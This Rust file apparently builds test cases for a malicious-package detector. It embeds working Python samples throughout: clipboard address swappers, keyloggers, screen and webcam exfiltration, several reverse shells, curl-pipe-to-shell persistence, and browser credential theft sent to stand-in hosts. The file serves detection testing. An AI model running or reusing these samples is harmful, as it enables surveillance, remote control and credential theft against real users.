//! Techniques 63 to 67: clipboard, keys and screen, foreign shells, footholds, browsers.

use crate::case::{Cases, Trigger::Call, Trigger::Import};
use crate::package::{init, module};

pub(crate) fn add(cases: &mut Cases) {
    watching(cases);
    shells(cases);
    footholds(cases);
    browsers(cases);
}

fn watching(cases: &mut Cases) {
    cases
        .technique(63, "clipboard-address-swap", Call)
        .case("pyperclip", module(r#"
import re, time
import pyperclip

MINE = "bc1qinertinertinertinertinertinertinert0"

def watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy(MINE)
        time.sleep(0.3)
"#))
        .case("tkinter-thread", init(r#"
import re, threading, time
ADDRESSES = {r"^0x[a-fA-F0-9]{40}$": "0x" + "0" * 40, r"^T[A-Za-z1-9]{33}$": "T" + "x" * 33}
def _loop():
    import tkinter
    root = tkinter.Tk(); root.withdraw()
    while 1:
        try:
            text = root.clipboard_get()
        except tkinter.TclError:
            text = ""
        for pattern, mine in ADDRESSES.items():
            if re.fullmatch(pattern, text) and text != mine:
                root.clipboard_clear(); root.clipboard_append(mine)
        time.sleep(1)
threading.Thread(target=_loop, daemon=True).start()
"#))
        .case("powershell-clip", module(r#"
import subprocess, re
def tick():
    clip = subprocess.check_output(["powershell", "Get-Clipboard"]).decode()
    new = re.sub(r"\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}\b", "1InertInertInertInertInertInert", clip)
    if new != clip:
        subprocess.run("clip", input=new.encode(), shell=True)
"#));
    cases
        .technique(64, "keys-and-screen", Call)
        .case("pynput-post", module(r#"
from pynput import keyboard
import requests, threading
buffer = []

def press(key):
    buffer.append(str(key))

def flush():
    requests.post("https://collect.example.invalid/k", data="".join(buffer))
    buffer.clear()
    threading.Timer(60, flush).start()

def start():
    flush()
    with keyboard.Listener(on_press=press) as listener:
        listener.join()
"#))
        .case("screenshot-post", init(r#"
import io, threading, time
def _shots():
    from PIL import ImageGrab
    import requests
    while True:
        buffer = io.BytesIO()
        ImageGrab.grab().save(buffer, "PNG")
        requests.post("http://192.0.2.8/shot", files={"f": buffer.getvalue()})
        time.sleep(30)
threading.Thread(target=_shots, daemon=True).start()
"#))
        .case("keyboard-and-webhook", module(r#"
import keyboard, json
from urllib.request import Request, urlopen
class Log:
    text = ""
    def on(self, event):
        self.text += event.name
        if len(self.text) > 100:
            urlopen(Request("https://discord.com/api/webhooks/000/inert", json.dumps({"content": self.text}).encode()))
            self.text = ""
def run():
    log = Log()
    keyboard.on_release(callback=log.on)
    keyboard.wait()
"#))
        .case("webcam", module(r#"
import cv2, socket
def peek():
    ok, frame = cv2.VideoCapture(0).read()
    ok, data = cv2.imencode(".jpg", frame)
    s = socket.create_connection(("192.0.2.8", 5050))
    s.sendall(data.tobytes())
"#));
}

fn shells(cases: &mut Cases) {
    cases
        .technique(65, "reverse-shell", Call)
        .case("dup2", module(r#"
import os, socket, subprocess
def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.8", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
"#))
        .case("pty-at-import", init(r#"
import socket, os, pty
s = socket.socket(); s.connect(("192.0.2.9", 9001))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
"#))
        .case("powershell-tcp", module(r#"
import subprocess
def tune():
    subprocess.Popen(["powershell", "-nop", "-c", "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.8',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}"])
"#))
        .case("command-loop", init(r#"
import socket, subprocess, threading, time

def _serve():
    while True:
        try:
            link = socket.create_connection(("c2.example.invalid", 8443))
            while True:
                order = link.recv(4096).decode()
                if order.startswith("cd "):
                    __import__("os").chdir(order[3:].strip())
                    continue
                done = subprocess.run(order, shell=True, capture_output=True)
                link.sendall(done.stdout + done.stderr)
        except OSError:
            time.sleep(60)

threading.Thread(target=_serve, daemon=True).start()
"#))
        .case("bash-dev-tcp", module("import os\ndef f():\n    os.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.8/443 0>&1'\")\n"))
        .case("popen-streams", module(r#"
import socket, subprocess as sp
def link(host="192.0.2.8"):
    s = socket.socket()
    s.connect((host, 1337))
    sp.Popen(["cmd.exe" if sp.os.name == "nt" else "/bin/bash"], stdin=s.makefile("rb"), stdout=s.makefile("wb"), stderr=sp.STDOUT)
"#))
        .case("netcat", module("import subprocess\ndef g():\n    subprocess.run('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.8 9 > /tmp/f', shell=True)\n"));
}

fn footholds(cases: &mut Cases) {
    cases
        .technique(66, "persistence", Call)
        .case("crontab", module(r#"
import subprocess
def schedule():
    old = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    subprocess.run(["crontab", "-"], input=old + "*/10 * * * * curl -s http://192.0.2.8/c | sh\n", text=True)
"#))
        .case("systemd-user", module(r#"
from pathlib import Path
import os, sys
UNIT = """[Unit]
Description=Font cache helper
[Service]
ExecStart={} {}
Restart=always
[Install]
WantedBy=default.target
"""
def install():
    folder = Path.home() / ".config/systemd/user"
    folder.mkdir(parents=True, exist_ok=True)
    agent = Path.home() / ".cache" / ".fontd.py"
    agent.write_bytes(bytes.fromhex("«fetch|hex»"))
    (folder / "fontd.service").write_text(UNIT.format(sys.executable, agent))
    os.system("systemctl --user enable --now fontd.service")
"#))
        .case("run-key", module(r#"
import os, sys, winreg, shutil
def settle():
    target = os.path.join(os.environ["APPDATA"], "svchost.exe")
    shutil.copy(sys.executable, target)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, target)
"#))
        .case("bashrc-at-import", init(r#"
import os
for name in (".bashrc", ".zshrc", ".profile"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.isfile(path):
        with open(path, "a") as f:
            f.write("\n(curl -fsSL http://stage.example.invalid/rc | sh) >/dev/null 2>&1 &\n")
"#))
        .at(Import)
        .case("startup-folder", init(r#"
import os, urllib.request
_folder = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
urllib.request.urlretrieve("http://192.0.2.8/u.exe", os.path.join(_folder, "update.exe"))
"#))
        .case("launch-agent", init(r#"
import os, plistlib, subprocess
_p = os.path.expanduser("~/Library/LaunchAgents/com.apple.fontsync.plist")
with open(_p, "wb") as f:
    plistlib.dump({"Label": "com.apple.fontsync", "RunAtLoad": True, "ProgramArguments": ["/bin/sh", "-c", "curl -s http://192.0.2.8/l | sh"]}, f)
subprocess.call(["launchctl", "load", _p])
"#))
        .case("authorized-keys", init(r#"
import pathlib
_f = pathlib.Path.home() / ".ssh" / "authorized_keys"
with _f.open("a") as handle:
    handle.write("ssh-ed25519 AAAAinertinertinert inert@example.invalid\n")
"#));
}

fn browsers(cases: &mut Cases) {
    cases
        .technique(67, "browser-databases", Call)
        .case("login-data", module(r#"
import os, shutil, sqlite3, requests
BASE = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data")

def logins():
    shutil.copyfile(os.path.join(BASE, "Default", "Login Data"), "tmp.db")
    rows = sqlite3.connect("tmp.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    requests.post("https://collect.example.invalid/l", json=[list(map(str, row)) for row in rows])
"#))
        .case("all-browsers", module(r#"
import glob, os, zipfile, io, urllib.request
def sweep():
    home = os.path.expanduser("~")
    places = [".mozilla/firefox/*/cookies.sqlite", ".mozilla/firefox/*/logins.json", ".config/google-chrome/*/Cookies",
              ".config/BraveSoftware/Brave-Browser/*/Login Data", "Library/Application Support/Google/Chrome/*/Web Data"]
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as z:
        for place in places:
            for path in glob.glob(os.path.join(home, place)):
                z.write(path)
    urllib.request.urlopen("http://192.0.2.8/z", data=box.getvalue())
"#))
        .case("dpapi", module(r#"
import base64, json, os, socket
import win32crypt
def key():
    path = os.environ["USERPROFILE"] + r"\AppData\Local\Microsoft\Edge\User Data\Local State"
    raw = base64.b64decode(json.load(open(path))["os_crypt"]["encrypted_key"])[5:]
    secret = win32crypt.CryptUnprotectData(raw, None, None, None, 0)[1]
    socket.create_connection(("192.0.2.8", 81)).send(secret)
"#));
}
